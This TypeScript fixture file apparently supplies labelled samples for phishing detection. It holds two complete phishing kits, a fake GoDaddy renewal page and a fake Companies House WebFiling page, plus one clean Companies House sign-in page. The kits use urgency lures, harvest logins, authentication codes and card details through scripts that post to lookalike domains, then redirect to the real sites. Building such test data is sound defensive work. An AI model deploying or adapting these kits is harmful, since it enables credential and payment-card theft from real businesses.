import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, govukCss, govukHeader, govukFooter, appCss, badge, wordmark, baseSiteCss } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-godaddy-renewal-payment-failed-kit',
  label: 'phishing',
  kind: 'domain-renewal-kit',
  url: 'https://sso.godaddy-renewals.net/account/billing/update?plid=1&domain=kilbrideplanthire.com.au',
  body: page({
    title: 'Sign In | GoDaddy',
    lang: 'en-AU',
    css: appCss('#111', '#fff') + `.panel{box-shadow:none;border:1px solid #d6d6d6}.gd{font-weight:800;font-size:26px;color:#111}.alert{background:#fff4e5;border-left:4px solid #ff8c00;padding:10px 12px;font-size:13px;margin:12px 0}#pay{display:none}.two{display:flex;gap:10px}.two>div{flex:1}`,
    body: `<div class="wrap"><div class="panel">
<div class="gd">GoDaddy</div>
<div class="alert">We couldn't renew <b id="dm"></b>. Your website and email will stop working in 48 hours. Sign in to update your payment method.</div>
<form id="si"><h1>Sign in</h1><label>Username or Customer #</label><input type="text" name="u" required><label>Password</label><input type="password" name="p" required>
<label style="font-weight:400"><input type="checkbox" checked> Keep me signed in on this device</label><button class="btn">Sign In</button></form>
<form id="pay"><h1>Update payment method</h1><label>Name on card</label><input name="cn" required><label>Card number</label><input name="cc" inputmode="numeric" required>
<div class="two"><div><label>Expiration</label><input name="ex" placeholder="MM/YY"></div><div><label>CVV</label><input name="cv" maxlength="4"></div></div>
<label>Billing postcode</label><input name="zip"><button class="btn">Save and renew</button></form>
<div class="foot">Copyright © 1999 - 2025 GoDaddy Operating Company, LLC. All Rights Reserved.</div>
</div></div>
<script>
var d=new URLSearchParams(location.search).get('domain')||'';document.getElementById('dm').textContent=d;
function p(f){var b=new FormData(f);b.append('domain',d);return fetch('/account/billing/api.php',{method:'POST',body:b})}
document.getElementById('si').onsubmit=function(e){e.preventDefault();p(this);this.style.display='none';document.getElementById('pay').style.display='block';};
document.getElementById('pay').onsubmit=function(e){e.preventDefault();p(this).then(function(){location.href='https://sso.godaddy.com/'});};
</script>`,
  }),
  routes: { 'sso.godaddy-renewals.net/account/billing/api.php': jsonRoute({ status: 'ok' }) },
},
{
  id: 'ya-companies-house-authcode-strikeoff-kit',
  label: 'phishing',
  kind: 'government-registry-kit',
  url: 'https://companieshouse-filing.uk/webfiling/signin?company=12874521',
  body: page({
    title: 'Sign in – Companies House WebFiling – GOV.UK',
    css: govukCss + `#s2{display:none}`,
    body: `${govukHeader('Companies House WebFiling')}
<div class="govuk-width-container"><main class="govuk-main-wrapper" id="main-content">
<div class="govuk-warning-text"><span class="govuk-warning-text__icon">!</span>Your confirmation statement is overdue. The company will be struck off the register and dissolved unless it is filed within 7 days.</div>
<form id="s1"><h1 class="govuk-heading-l">Sign in to WebFiling</h1>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="em">Email address</label><input class="govuk-input" id="em" name="email" type="email"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="pw">Password</label><input class="govuk-input" id="pw" name="password" type="password"></div>
<button class="govuk-button">Sign in</button></form>
<form id="s2"><h1 class="govuk-heading-l">Company authentication</h1>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="cn">Company number</label><input class="govuk-input govuk-input--width-10" id="cn" name="cn"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="ac">Company authentication code</label><span class="govuk-hint">6 characters, sent to the registered office address</span><input class="govuk-input govuk-input--width-10" id="ac" name="authcode" maxlength="6"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="cc">Pay the £34 late filing fee – card number</label><input class="govuk-input" id="cc" name="cc" inputmode="numeric"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Expiry and security code</label><div class="govuk-date-input"><input class="govuk-input govuk-input--width-5" name="exp" placeholder="MM/YY"><input class="govuk-input govuk-input--width-4" name="cvv" placeholder="CVV"></div></div>
<button class="govuk-button">File confirmation statement</button></form>
</main></div>
${govukFooter()}
<script>
var cn=new URLSearchParams(location.search).get('company');if(cn)document.getElementById('cn').value=cn;
function post(f){return fetch('/webfiling/h.php',{method:'POST',body:new FormData(f)})}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();post(this);this.style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();post(this).then(function(){location.href='https://find-and-update.company-information.service.gov.uk/'});};
</script>`,
  }),
  routes: { 'companieshouse-filing.uk/webfiling/h.php': jsonRoute({ r: true }) },
},
{
  id: 'ya-companies-house-signin-own-domain',
  label: 'clean',
  kind: 'government-registry-own-domain',
  url: 'https://identity.company-information.service.gov.uk/signin?request=eyJyZWRpcmVjdCI6Imh0dHBzOi8vZmluZC1hbmQtdXBkYXRlLmNvbXBhbnktaW5mb3JtYXRpb24uc2VydmljZS5nb3YudWsvIn0',
  body: page({
    title: 'Sign in to your Companies House account - Companies House - GOV.UK',
    css: govukCss,
    body: `${govukHeader('Companies House')}
<div class="govuk-width-container"><main class="govuk-main-wrapper" id="main-content">
<div class="govuk-grid-row"><div class="govuk-grid-column-two-thirds">
<h1 class="govuk-heading-l">Sign in to your Companies House account</h1>
<form method="post" action="/signin" novalidate>
<input type="hidden" name="_csrf" value="jK8w2Lp0-vN3xQ7rT4yZ1mB6cE9hA5sD">
<div class="govuk-form-group"><label class="govuk-label" for="email">Email address</label><input class="govuk-input" id="email" name="email" type="email" spellcheck="false" autocomplete="email"></div>
<div class="govuk-form-group"><label class="govuk-label" for="password">Password</label><input class="govuk-input" id="password" name="password" type="password" autocomplete="current-password"></div>
<button class="govuk-button" data-module="govuk-button">Sign in</button>
</form>
<p class="govuk-body"><a href="/reset-password">Forgotten your password?</a></p>
<p class="govuk-body"><a href="/register">Create a Companies House account</a></p>
<div class="govuk-inset-text">We will never send you an email asking you to pay a "late filing fee" by card to avoid strike off. Late filing penalties are only paid after you've filed, through the official penalty service.</div>
</div></div></main></div>
${govukFooter()}`,
  }),
},
];
